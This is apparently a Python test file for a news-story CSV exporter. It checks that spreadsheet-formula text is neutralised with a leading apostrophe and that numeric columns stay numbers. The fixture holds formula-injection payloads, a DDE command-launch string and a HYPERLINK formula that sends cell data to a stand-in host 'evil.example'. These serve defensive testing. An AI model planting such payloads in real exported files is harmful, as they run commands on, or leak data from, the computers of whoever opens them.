"""The CSV export opened in a spreadsheet: text from the articles never runs as a formula."""

from __future__ import annotations

import csv
import io

from storyline.export.csv import CSV_COLUMNS, export_csv
from storyline.model import Article, Entity, Event, PublishedBasis, Span, Story

TEXT = "+1 555 0100 was the number Lavrov gave.\n\nLater talks were held."


def hostile_story() -> Story:
    article = Article("@a1", "=cmd|' /C calc'!A0", "-Outlet", None, "2022-02-14", PublishedBasis.GIVEN, TEXT, "h", url=None)
    actor = Entity("e1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "PERSON", (), (), "RUS", (Span("@a1", 27, 33),), None)
    event = Event(
        "ev1", "2022-02-14", "explicit", "happened", "e1", "gave", None, "040", "-Kyiv", (Span("@a1", 0, 39),),
        goldstein=-5.0, location_lat=-33.9, location_lon=18.4,
    )  # fmt: skip
    return Story(articles=(article,), entities=(actor,), events=(event,))


def test_cells_that_a_spreadsheet_would_run_are_written_as_text():
    row = next(csv.DictReader(io.StringIO(export_csv(hostile_story()))))
    assert row["actor"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["source_sentence"] == "'+1 555 0100 was the number Lavrov gave."
    assert row["source_article"] == "'@a1" and row["location"] == "'-Kyiv" and row["source_url"] == "'=cmd|' /C calc'!A0"


def test_numbers_stay_numbers_negative_ones_included():
    row = next(csv.DictReader(io.StringIO(export_csv(hostile_story()))))
    assert (row["goldstein"], row["location_lat"], row["location_lon"]) == ("-5.0", "-33.9", "18.4")
    text_cells = [value for name, value in row.items() if name not in ("goldstein", "location_lat", "location_lon")]
    assert not [cell for cell in text_cells if cell[:1] in ("=", "+", "-", "@")]
    assert list(row) == list(CSV_COLUMNS)
